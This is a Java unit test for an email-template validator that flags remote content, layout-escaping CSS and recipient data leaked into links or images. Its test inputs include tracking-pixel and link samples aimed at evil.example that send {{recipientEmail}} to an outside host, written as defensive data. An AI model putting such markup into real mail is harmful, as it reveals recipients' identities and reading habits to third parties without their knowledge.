package org.portalemails.settings.form;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.portalemails.notification.ContentFormat;
import org.portalemails.notification.MailText;
import org.portalemails.notification.NotificationType;
import org.portalemails.settings.SettingsViolation;

@DisplayName("What a text has readers' programs fetch, or tells other servers,")
class RemoteContentTest {
    private static List<SettingsViolation> check(String content) {
        return SettingsRules.standard()
                .checkText(
                        NotificationType.NEW_PRIMARY_CONTACT,
                        new MailText("Contact", "<p>Bonjour</p>" + content, ContentFormat.HTML));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "<img alt='' src='https://cdn.evil.example/p.gif'> | text.remote-content",
                "<img alt='' src='HTTPS://cdn.evil.example/p.gif'><img alt='' src='https://cdn.evil.example/q.gif'> | text.remote-content",
                "<p style='background:url(https://cdn.evil.example/p.gif)'>x</p> | text.remote-content",
                "<style>p { background: url( \"https://cdn.evil.example/p.gif\" ) }</style> | text.remote-content",
                "<p style='position: fixed !important'>x</p> | text.style-leaves-its-place",
                "<style>p { position:absolute }</style> | text.style-leaves-its-place",
                "<a href='https://evil.example/?e={{recipientEmail}}'>x</a> | text.personal-in-link",
            })
    @DisplayName("is told as a warning:")
    void warned(String content, String code) {
        assertThat(check(content.replace('\'', '"'))).singleElement().satisfies(found -> {
            assertThat(found.code()).isEqualTo(code);
            assertThat(found.isError()).isFalse();
            assertThat(found.message(Locale.ENGLISH)).doesNotContain("[");
        });
    }

    @Test
    @DisplayName("is an error in the address of a picture: nobody needs to know who opens a mail")
    void picture() {
        assertThat(check("<img alt=\"\" src=\"https://evil.example/p.gif?e={{recipientEmail}}\">"))
                .extracting(found -> found.code() + " " + found.isError())
                .containsExactly("text.remote-content false", "text.personal-in-picture true");
        assertThat(check("<img alt=\"\" src=\"https://evil.example/p.gif?e={{recipientEmail}}\">")
                        .get(1)
                        .message(Locale.CANADA_FRENCH))
                .contains("{{recipientEmail}}", "evil.example", "courriel");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img alt=\"\" src=\"{{portalUrl}}/logo.png\">",
                "<a href=\"{{portalUrl}}/?user={{recipientEmail}}\">x</a>",
                "<a href=\"https://erable.example/?from={{companyName}}\">x</a>",
                "<a href=\"https://erable.example/\">x</a>",
                "<p style=\"position:relative; background-position:fixed\">x</p>"
            })
    @DisplayName("is the host's own where a field begins the address, and nothing where no person is named:")
    void own(String content) {
        assertThat(check(content)).isEmpty();
    }
}
